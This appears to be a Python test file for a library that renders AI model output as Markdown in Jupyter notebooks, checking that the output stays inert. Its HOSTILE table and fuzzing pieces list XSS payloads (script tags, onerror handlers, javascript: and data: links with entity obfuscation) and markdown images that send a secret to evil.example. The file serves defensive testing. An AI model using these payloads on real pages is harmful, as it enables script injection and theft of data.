"""What a model wrote is shown as Markdown, and nothing in it runs, fetches or breaks out.

It is rendered as CommonMark says, with the HTML in it, as JupyterLab renders it from a cell that
was run; then the page is looked at.
"""

from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

import unillm
from unillm._markdown import answer, bundle, facts, fenced, folded, inert, table

RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
HARMLESS = {
    *("p", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br", "a", "s"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
OURS = frozenset({"details", "summary", "div", "sub", "span"})
SAFE = ("https://", "http://", "mailto:")


class Page(HTMLParser):
    """A page: its tags, where its links lead, its text and its code."""

    def __init__(self, markdown):
        super().__init__()
        self.tags: list[str] = []
        self.open: list[str] = []
        self.links: list[str] = []
        self.odd: list[str] = []
        self.text = self.code = ""
        self.feed(RENDERER.render(markdown))

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag not in {"br", "hr", "img"}:
            self.open.append(tag)
        for name, value in attrs:
            if name == "href":
                self.links.append(value or "")
            elif name not in {"class", "start", "style", "title"}:
                self.odd.append(name)

    def handle_endtag(self, tag):
        if self.open and self.open[-1] == tag:
            self.open.pop()
        elif tag not in {"br", "hr"}:
            self.odd.append(f"/{tag}")

    def handle_decl(self, decl):
        self.odd.append(decl)

    def handle_comment(self, data):
        self.odd.append(data)

    def handle_data(self, data):
        self.text += data
        if "pre" in self.open:
            self.code += data


def require_harmless(markdown, also=frozenset()):
    page = Page(markdown)
    assert set(page.tags) <= HARMLESS | also, set(page.tags)
    assert (page.odd, page.open) == ([], [])
    assert [link for link in page.links if not link.lower().startswith(SAFE)] == []
    return page


SCRIPT = "<script>alert(1)</script>"
TELLTALE = "![x](https://evil.example/?secret)"
HOSTILE = {
    "script": SCRIPT,
    "image tag": "<img src=https://evil.example/?secret onerror=alert(1)>",
    "image": TELLTALE,
    "image by reference": "![x][1] ![1] ![1][]\n\n[1]: https://evil.example/?secret",
    "escaped image": f"\\{TELLTALE} \\\\{TELLTALE}",
    "image in a link": f"[{TELLTALE}](https://example.com)",
    "end of details": f"</details></div></sub>{SCRIPT}",
    "comment": "<!-- \n\n never closed",
    "declaration": "<!DOCTYPE html><?php ?><![CDATA[x]]>",
    "open fence": f"```html\n{SCRIPT}\n",
    "open fence of tildes": f"~~~~\n{SCRIPT}\n~~~\n",
    "fence in a fence": f"````\n```\n{SCRIPT}\n```\n````\n{SCRIPT}",
    "end that is none": f"```\na\n         ```\n{SCRIPT}\n```\n{SCRIPT}\n```",
    "end that is none, in a list": f"- ```\n\n      ```\n{SCRIPT}\n```\n{SCRIPT}\n```\n{SCRIPT}",
    "fence in a list": f"1. a\n   ```html\n   {SCRIPT}\n   ```\n2. b {SCRIPT}",
    "fence far in": f"a\n          ```\n{SCRIPT}\n          ```",
    "fence in a quote": f"> ```\n> {SCRIPT}\n> ```\n\n> ```\n{SCRIPT}",
    "code": f"`a` ``{SCRIPT}`` `{SCRIPT}",
    "code over lines": f"`a\n{SCRIPT}` b\n\n`c\n\n{SCRIPT}`",
    "escaped code": f"\\`{SCRIPT}` \\\\`{SCRIPT}`",
    "code in the way": f"`` ` {SCRIPT} ` ``` {SCRIPT} ```",
    "link": "[x](javascript:alert(1)) [x]( \n JavaScript:alert(1)) [x](<javascript:alert(1)>)",
    "veiled link": "[x](java&#115;cript:alert(1)) [x](javascript\\:a) [x](&#x6a;avascript:a)",
    "link by reference": "[x] [x][] [y][x]\n\n[x]:\njavascript:alert(1)\n\n> [y]: data:text/html,x",
    "other links": "[x](data:text/html,a) [x](vbscript:a) [x](file:///etc) [x](//evil.example)",
    "autolink": "<javascript:alert(1)> <data:text/html,x>",
    "mathematics": f"$a{SCRIPT}$ $$\n{SCRIPT}\n$$",
    "odd ends of lines": f"```\r{SCRIPT}\u2028```\u2028{SCRIPT}\x0b```\x85\r\n```\r{SCRIPT}",
    "break": f"<br>\n{SCRIPT}\n<BR/>{TELLTALE}",
    "break with more": "<br onclick=alert(1)>",
    "indented": f"    {SCRIPT}\n\n\t{TELLTALE}",
    "table": f"| a | b |\n|---|---|\n| {SCRIPT} | {TELLTALE} |",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_stays_text(text):
    require_harmless(answer(text))
    response = unillm.ChatResponse(
        message=unillm.AssistantMessage(
            text,
            reasoning=text,
            refusal=text,
            tool_calls=(unillm.ToolCall("1", text, {"a": text}),),
        ),
        finish_reason="stop",
        provider="p",
        model=text,
        invalid_tool_calls=(unillm.InvalidToolCall("2", text, raw=text, reason=text),),
    )
    page = require_harmless(response._repr_markdown_(), also=OURS)
    assert [page.tags.count(tag) for tag in ("details", "summary", "sub")] == [1, 1, 1]


PIECES = (
    *("`", "``", "```", "````", "~~~", "~~~~", "\n", "\n\n", "    ", "\t", " ", "- ", "1. ", "> "),
    *("<script>", "</details>", "<!--", "-->", "<", ">", "<br>", "<br", "![", "!", "[", "]", "]("),
    *(
        "](",
        ")",
        "]:",
        ":",
        "javascript:",
        "https://a",
        "mailto:",
        "\\",
        "$",
        "$$",
        "&lt;",
        "&#33;",
    ),
    *("$$", "\\begin{a}", "\\end{a}", "\\\\[", "\\\\]", "\\\\(", "x"),
    *("a", "*", "_", "|", "|---|", "#", "=", "html", "\r", "\u2028", "\x00"),
)
SOUP = st.lists(st.sampled_from(PIECES), max_size=40).map("".join)


@given(SOUP)
@example("- ```\n\n\n      ```\n<script>\n```\n<script>")
def test_no_text_breaks_out(text):
    require_harmless(answer(text))
    shown = "\n\n".join([folded(text, text), answer(text), fenced(text, "python"), facts([text])])
    page = require_harmless(shown, also=OURS)
    assert [tag for tag in page.tags if tag != "span"][:3] == ["details", "summary", "div"]
    assert page.open == []


@given(st.text() | SOUP)
def test_inert_text_is_what_it_was(text):
    page = require_harmless(f"a {inert(text)} a", also=OURS)
    assert set(page.tags) <= {"p", "span"}
    flat = " ".join(page.text.split())
    if text.isprintable():
        assert flat == " ".join(f"a {text} a".split())


@given(st.lists(st.lists(SOUP, min_size=3, max_size=3), max_size=3))
def test_a_table_has_the_cells_it_was_given(rows):
    page = require_harmless(table(("a", "b", "c"), rows, {"a"}), also=OURS)
    assert page.tags.count("td") == 3 * len(rows)


@pytest.mark.parametrize(
    ("text", "tags", "shown"),
    [
        ("# Title\n\n**bold** and `List<int>`", ["h1", "p", "strong", "code"], "List<int>"),
        ("1. a\n   ```sh\n   ls\n   ```\n2. b", ["ol", "li", "pre", "code", "li"], "ls\n"),
        ("see [docs](https://example.com/a_(b))", ["p", "a"], "docs"),
        ("| a | b |\n|---|---|\n| 1<br>2 | `x|y` |", ["table", "br", "code"], "x|y"),
        ("a < b, x<3 and $a<b$", ["p"], "a < b, x<3 and $a\\lt b$"),
        ("`C:\\` and `a", ["p", "code"], "C:\\ and `a"),
        ("[`f`](https://example.com) `![a](b)`", ["p", "a", "code"], "f ![a](b)"),
    ],
    ids=["title", "list", "link", "table", "less", "backslash", "code"],
)
def test_what_does_no_harm_is_rendered(text, tags, shown):
    page = require_harmless(answer(text))
    assert shown in page.text
    assert [tag for tag in tags if tag not in page.tags] == []


@pytest.mark.parametrize("lead", ["", "   ", "- ", "> ", "\t"])
@pytest.mark.parametrize("code", ["<b>\n  ![x](y)\n", "a = 1\n\n  b = '`'\n"])
def test_code_is_what_it_was(lead, code):
    begun = lead.replace("-", " ")
    inner = "".join(f"{begun}{line}\n" for line in code.splitlines())
    page = require_harmless(answer(f"Look:\n\n{lead}```html\n{inner}{begun}```\n\nDone."))
    assert page.code.replace("```html\n", "").replace("```", "").strip("\n") == code.strip("\n")


OPEN = (
    "$$",
    "$$$",
    "\\$$ a $$",
    "\\\\[",
    "\\begin{a}",
    "\\begin{a}\\begin{b}\\end{a}",
    "\\\\] \\\\[",
)


@pytest.mark.parametrize("begin", OPEN)
def test_a_formula_ends_before_the_code_that_follows(begin):
    """Renderers for notebooks look for its end first: the code in it would be prose."""
    prose = answer(f"a {begin} b\n\n```html\n{SCRIPT} $$ \\\\] \\end{{a}}\n```").split("~~~")[0]
    assert begin not in prose
    assert "html" not in prose


@pytest.mark.parametrize(
    "formula",
    ["$$\\sum_i x_i$$", "$x$ and $y$", "\\\\[ a \\\\]", "\\begin{a}x & y \\\\ z\\end{a}", "$5"],
)
def test_a_formula_is_left_as_it_is(formula):
    assert answer(f"Look: {formula}") == f"Look: {formula}"


def test_amounts_are_no_mathematics():
    assert inert("$1") == "&#36;1"
    assert inert("$1 of $2") == "<span>&#36;</span>1 of <span>&#36;</span>2"


def test_a_language_that_notebooks_draw_is_shown_as_code():
    assert "mermaid" not in answer("```mermaid\ngraph TD\nA[<img src='https://evil'>]\n```")
    assert "python" in answer("```python\n1\n```")


def test_code_with_fences_in_it_is_one_block():
    assert Page(fenced("a\n```\nb", "python")).code == "a\n```\nb\n"


def test_a_long_text_takes_no_longer_than_its_length():
    """A regular expression that goes back and forth would take minutes."""
    for piece in (
        "`" * 7,
        "](",
        "$",
        "$$",
        "\\begin{a}",
        "\\\\[",
        "> ",
        "\\",
        "- ",
        "<",
        "[x]: ",
        "`a``b```",
        "~~~ ",
    ):
        assert answer(piece * 50_000)
    assert answer("".join("`" * n + " " for n in range(1, 700)))


class Value:
    def __repr__(self):
        return "Value()"

    def _repr_markdown_(self):
        return "**Value**"


def test_a_bundle_has_what_is_asked_for():
    whole = {"text/plain": "Value()", "text/markdown": "**Value**"}
    assert bundle(Value()) == whole
    assert bundle(Value(), include=["text/markdown", "text/html"]) == {"text/markdown": "**Value**"}
    assert bundle(Value(), exclude={"text/markdown"}) == {"text/plain": "Value()"}
    assert bundle(Value(), include=set(), exclude=set()) == whole
